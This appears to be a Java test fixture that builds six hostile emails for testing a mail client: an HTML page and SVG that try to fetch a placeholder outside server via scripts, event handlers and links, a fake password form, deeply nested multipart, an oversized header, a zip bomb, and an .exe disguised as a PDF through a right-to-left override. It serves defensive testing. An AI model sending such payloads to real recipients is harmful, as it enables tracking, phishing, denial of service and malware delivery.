package io.svara.it.mail;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Mails that mean harm, each known by its subject. */
final class Hostile {
  private static final int PARTS = 200;
  private static final int HEADER = 50 << 20;
  private static final int UNPACKED = 200 << 20;

  private final String stranger;

  /**
   * @param stranger the address of a server that nobody who reads a letter should ever speak with
   */
  Hostile(String stranger) {
    this.stranger = stranger;
  }

  /** By subject. */
  Map<String, byte[]> mails() throws IOException {
    Map<String, byte[]> mails = new LinkedHashMap<>();
    mails.put("Hostile page", page());
    mails.put("Hostile drawing", drawing());
    mails.put("Hostile nest", nest());
    mails.put("Hostile header", header());
    mails.put("Hostile archive", archive());
    mails.put("Hostile name", name());
    return mails;
  }

  private byte[] page() {
    return html(
        "Hostile page",
        """
        <html><head><base href="%1$s"><meta http-equiv="refresh" content="0;url=%1$s">
        <link rel="stylesheet" href="%1$s"><style>@import url(%1$s);</style>
        <script>document.title = 'hurt'; fetch('%1$s')</script></head>
        <body onload="fetch('%1$s')" background="%1$s">
        <p>Words of the page</p><img src="%1$s" width=1 height=1 onerror="fetch('%1$s')">
        <div style="position:fixed;inset:0;background:url(%1$s)">covers all</div>
        <form action="%1$s"><input name=password autofocus onfocus="fetch('%1$s')"><button>Sign in</button></form>
        <iframe src="%1$s"></iframe><object data="%1$s"></object><a href="javascript:fetch('%1$s')">click</a>
        <svg onload="fetch('%1$s')"><image href="%1$s"/></svg></body></html>
        """
            .formatted(stranger));
  }

  private byte[] drawing() {
    String svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('"
            + stranger
            + "')\"><script>fetch('"
            + stranger
            + "')</script></svg>";
    return withFile("Hostile drawing", "image/svg+xml", "ritning.svg", bytes(svg));
  }

  private byte[] nest() {
    StringBuilder mail = new StringBuilder(head("Hostile nest"));
    for (int i = 0; i < PARTS; i++) {
      mail.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\r\n\r\n--b");
      mail.append(i).append("\r\n");
    }
    return bytes(mail.append("\r\nWords of the nest\r\n").toString());
  }

  private byte[] header() {
    StringBuilder mail = new StringBuilder(HEADER + 1000).append(head("Hostile header"));
    String field = "X-Filler: " + "y".repeat(900) + "\r\n";
    while (mail.length() < HEADER) {
      mail.append(field);
    }
    return bytes(mail.append("\r\nWords below the header\r\n").toString());
  }

  private byte[] archive() throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(packed)) {
      zip.putNextEntry(new ZipEntry("zeros"));
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < UNPACKED >> 20; i++) {
        zip.write(zeros);
      }
    }
    return withFile("Hostile archive", "application/zip", "bomb.zip", packed.toByteArray());
  }

  /** Reads as {@code fakturaexe.pdf} where the order of writing is obeyed. */
  private byte[] name() {
    return withFile(
        "Hostile name", "application/pdf", "faktura\u202Efdp.exe", bytes("MZ, a program"));
  }

  private static byte[] withFile(String subject, String type, String name, byte[] content) {
    String encoded = Base64.getEncoder().encodeToString(bytes(name));
    return bytes(
        head(subject)
            + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nWords with a file\r\n--b\r\n"
            + "Content-Type: "
            + type
            + "; name=\"=?UTF-8?B?"
            + encoded
            + "?=\"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + Base64.getMimeEncoder().encodeToString(content)
            + "\r\n--b--\r\n");
  }

  private static byte[] html(String subject, String page) {
    return bytes(head(subject) + "Content-Type: text/html; charset=utf-8\r\n\r\n" + page);
  }

  private static String head(String subject) {
    return "From: Mallory <mallory@kund.example>\r\nTo: support@lumavik.example\r\nSubject: "
        + subject
        + "\r\nMessage-ID: <"
        + subject.replace(' ', '-')
        + "@kund.example>\r\nMIME-Version: 1.0\r\n";
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
